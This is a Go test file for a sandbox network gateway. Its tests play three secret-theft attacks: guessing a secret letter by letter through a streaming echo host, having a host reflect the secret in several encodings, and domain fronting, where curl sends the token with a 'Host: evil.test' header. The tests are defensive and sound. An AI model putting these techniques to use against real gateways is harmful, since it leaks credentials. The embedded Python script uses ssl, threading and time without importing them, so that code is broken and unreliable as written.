package network

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/cove-sh/cove/internal/testing/covetest"
	"github.com/cove-sh/cove/internal/testing/covetest/internet"
	"github.com/cove-sh/cove/sandbox"
)

const guessed = "value-one-0123456789abcdef"

// withSecret makes a secret for api.example.com, and a sandbox that has its
// placeholder as TOKEN.
func withSecret(t *testing.T, d *covetest.Daemon, p *sandbox.NetworkPolicy) (id string) {
	t.Helper()
	secret, err := d.Client.CreateSecret(t.Context(), sandbox.CreateSecretRequest{
		Name: "guessed", Value: sandbox.NewSecretValue(guessed), Hosts: []string{"api.example.com"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return d.Create(t, sandbox.CreateRequest{Secrets: map[string]string{"TOKEN": secret.Name}, Network: p}).ID
}

// parrot is a host that sends what a request says: /say?id=ID&text=TEXT is answered
// with a line, the text and, once somebody requests /more?id=ID, another line.
type parrot struct {
	mu   sync.Mutex
	more map[string]chan struct{} // by id; guarded by mu
}

func (p *parrot) signal(id string) chan struct{} {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.more[id] == nil {
		p.more[id] = make(chan struct{}, 1)
	}
	return p.more[id]
}

func (p *parrot) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	more := p.signal(r.FormValue("id"))
	if r.URL.Path == "/more" {
		more <- struct{}{}
		return
	}
	_, _ = io.WriteString(w, "said:\n"+r.FormValue("text"))
	_ = http.NewResponseController(w).Flush()
	select {
	case <-more:
		_, _ = io.WriteString(w, "~\n")
	case <-r.Context().Done():
	}
}

// Attack: code in a sandbox makes a host send a guess of the value's beginning, and
// watches whether the gateway passes it on before the host sends more. So it could
// guess the value letter by letter. It also tries a header that would make the gateway
// look for the value after letters that the sandbox chooses.
func TestAttackGuessedSecret(t *testing.T) {
	internet.Here(t).Serve(t, "api.example.com", &parrot{more: map[string]chan struct{}{}})
	t.Run("users", func(t *testing.T) {
		shared(t, func(t *testing.T, d *covetest.Daemon) {
			id := withSecret(t, d, nil)
			var guesses []string
			for at := range 9 {
				guesses = append(guesses, guessed[:at+1], guessed[:at]+"X")
			}
			guesses = append(guesses, guessed[:len(guessed)-1], guessed[:len(guessed)-2]+"X")
			out := works(t, d, id, python(fmt.Sprintf(`
import base64, http.client, os, urllib.parse
token, tls = os.environ["TOKEN"], ssl.create_default_context()
known = {"Authorization": "Basic " + base64.b64encode(b"aaaaaaaa:" + token.encode()).decode(), "X-Api-Key": token}
class Guess(threading.Thread):
    def __init__(self, name, text):
        super().__init__(); self.name, self.text, self.said = name, text, b""
        host = http.client.HTTPSConnection("api.example.com", timeout=60, context=tls)
        host.request("GET", "/say?" + urllib.parse.urlencode({"id": name, "text": text}), headers=known)
        self.answer = host.getresponse()
        assert self.answer.readline() == b"said:\n"
        self.start()
    def run(self):
        while (b := self.answer.read1(100)): self.said += b
guesses = [Guess(f"%s-{n}", text) for n, text in enumerate("%s".split())]
time.sleep(0.5)
early = [len(g.said) for g in guesses]
host = http.client.HTTPSConnection("api.example.com", timeout=60, context=tls)
for g, had in zip(guesses, early):
    host.request("GET", "/more?id=" + g.name); host.getresponse().read()
    g.join()
    assert g.said == g.text.encode() + b"~\n", (g.text, g.said)
    print(g.text, had)`, id, strings.Join(guesses, " "))))
			if got := strings.Count(out, "\n") + 1; got != len(guesses) {
				t.Fatalf("of %d guesses there are %d answers:\n%s", len(guesses), got, out)
			}
			for line := range strings.Lines(out) {
				if text, early, _ := strings.Cut(strings.TrimSpace(line), " "); early != "0" {
					t.Errorf("of %q, %s bytes passed before the host said more: others were held back", text, early)
				}
			}
		})
	})
}

// Attack: the value's own host sends it back, in every form. The forms that SECURITY.md
// lists as masked are masked, and those that it lists as not masked are not.
func TestAttackReflectedSecret(t *testing.T) {
	reversed := func(s string) string {
		var b strings.Builder
		for i := len(s) - 1; i >= 0; i-- {
			b.WriteByte(s[i])
		}
		return b.String()
	}
	same := func(s string) string { return s }
	forms := map[string]struct {
		form   func(string) string
		masked bool
	}{
		"plain": {same, true}, "header": {same, true}, "status": {same, true}, "trailer": {same, true},
		"json": {func(s string) string { return fmt.Sprintf("%q", s) }, true}, "query": {url.QueryEscape, true},
		"base64": {func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }, false},
		"hex":    {func(s string) string { return hex.EncodeToString([]byte(s)) }, false},
		"upper":  {strings.ToUpper, false}, "reversed": {reversed, false},
	}
	internet.Here(t).Serve(t, "api.example.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name := strings.TrimPrefix(r.URL.Path, "/")
		said := forms[name].form(r.Header.Get("X-Api-Key"))
		switch name {
		case "header":
			w.Header().Set("X-Said", said)
			w.Header().Set("X-"+said, "1")
		case "trailer":
			_, _ = io.WriteString(w, "there is more\n")
			w.Header().Set(http.TrailerPrefix+"X-Said", said)
		case "status":
			http.Error(w, said, http.StatusTeapot)
		default:
			_, _ = io.WriteString(w, said)
		}
	}))
	t.Run("users", func(t *testing.T) {
		shared(t, func(t *testing.T, d *covetest.Daemon) {
			id := withSecret(t, d, nil)
			for name, f := range forms {
				for _, version := range []string{"--http1.1", "--http2"} {
					out := works(t, d, id, fmt.Sprintf(`curl -sS --max-time 20 -i %s -H "X-Api-Key: $TOKEN" https://api.example.com/%s`, version, name))
					told := strings.Contains(strings.ToLower(out), strings.ToLower(f.form(guessed)))
					if told == f.masked {
						t.Errorf("%s %s: masked %v, and SECURITY.md says %v:\n%s", name, version, !told, f.masked, out)
					}
				}
			}
		})
	})
}

// Attack: code in a sandbox names an allowed host in TLS and another one of the
// same front end inside (domain fronting). Where the gateway ends TLS, for a
// secret, the other host is refused; elsewhere it sees nothing, as SECURITY.md
// says, but it leads to no other address.
func TestAttackFronting(t *testing.T) {
	internet.Here(t)
	shared(t, func(t *testing.T, d *covetest.Daemon) {
		policy := sandbox.NetworkPolicy{AllowOut: []string{"api.example.com"}, DenyOut: []string{"0.0.0.0/0"}}
		fronted := func(id, version string) (string, int) {
			return try(t, d, id, curl("https://api.example.com/fronted", "-k", version, `-H "Host: evil.test" -H "X-Api-Key: $TOKEN"`))
		}
		with, without := withSecret(t, d, &policy), create(t, d, policy)
		for _, version := range []string{"--http1.1", "--http2"} {
			if out, code := fronted(with, version); code == 0 {
				t.Errorf("%s: with a secret, another host was asked: %s", version, out)
			}
			out, code := fronted(without, version)
			if code != 0 {
				t.Errorf("%s: SECURITY.md says that fronting is not seen without a secret: %s", version, out)
				continue
			}
			if r := asked(t, out); r.TLSName != "api.example.com" || r.Host != "evil.test" || !strings.HasPrefix(r.Address, "198.51.100.") {
				t.Errorf("%s: fronting leads to %+v", version, r)
			}
		}
	})
}
